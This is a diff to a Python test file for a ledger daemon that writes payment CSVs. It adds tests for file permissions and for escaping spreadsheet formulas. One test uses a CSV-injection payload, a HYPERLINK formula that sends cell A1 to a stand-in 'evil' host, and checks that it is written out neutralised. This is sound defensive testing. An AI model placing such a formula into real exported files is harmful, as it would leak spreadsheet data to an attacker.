@@ -26,6 +26,7 @@ from precoro_daemon.adapters.ledgers.outbox import Outbox
 from precoro_daemon.adapters.ledgers.rows import RowReader
 from precoro_daemon.errors import LedgerMisfit, PermanentError, TemporaryError
 from precoro_daemon.payments.ports.ledger import Ledger
+from precoro_daemon.values.spreadsheet_cells import restored
 from tests.contracts.ledgers.books import entry, found, made, read_all
 from tests.contracts.ledgers.configured import ledger_in
 
@@ -123,7 +124,7 @@ def test_what_goes_out_comes_in(name: str):
     )
     content = box._content(entry("k1", supplier_name=name))
     (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
-    assert row["Bill"] == f"{name} x"
+    assert restored(row["Bill"]) == f"{name} x"
     (payment,) = read(content).payments
     assert (payment.key, payment.amount) == ("k1", Decimal("12.50"))
 
@@ -249,6 +250,33 @@ async def test_a_file_that_was_taken_is_not_written_again(folders: Folders):
         assert await made(ledger, entry()) == name
         assert await found(ledger, entry().key) == name
     assert listed(folders.root / "out") == []
+
+
+@pytest.mark.asyncio
+async def test_files_are_for_their_owner_and_a_group_that_was_named(folders: Folders):
+    async with folders.open() as ledger:
+        name = await made(ledger, entry())
+    assert (folders.root / "out" / name).stat().st_mode & 0o777 == 0o600
+    group = max(os.getgroups(), default=os.getgid())
+    async with folders.open(f'out_group = "{group}"') as ledger:
+        status = (folders.root / "out" / await made(ledger, entry("k2"))).stat()
+    assert (status.st_mode & 0o777, status.st_gid) == (0o640, group)
+    async with folders.open('out_group = "no-such-group"') as ledger:
+        with pytest.raises(LedgerMisfit, match="out_group must be a group of the user"):
+            await ledger.create(entry("k3"))
+    assert len(listed(folders.root / "out")) == 2
+
+
+@pytest.mark.asyncio
+async def test_no_cell_that_goes_out_is_a_formula_and_numbers_stay_numbers(folders: Folders):
+    async with folders.open() as ledger:
+        evil = entry(supplier_name='=HYPERLINK("http://evil/?"&A1,"click")', amount="-161.19", invoice_number="@SUM")
+        name = await made(ledger, evil)
+    with (folders.root / "out" / name).open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert [row[name] for name in ("supplier", "amount", "invoice")] == [
+        '\'=HYPERLINK("http://evil/?"&A1,"click")', "-161.19", "'@SUM",
+    ]  # fmt: skip
 
 
 @pytest.mark.asyncio
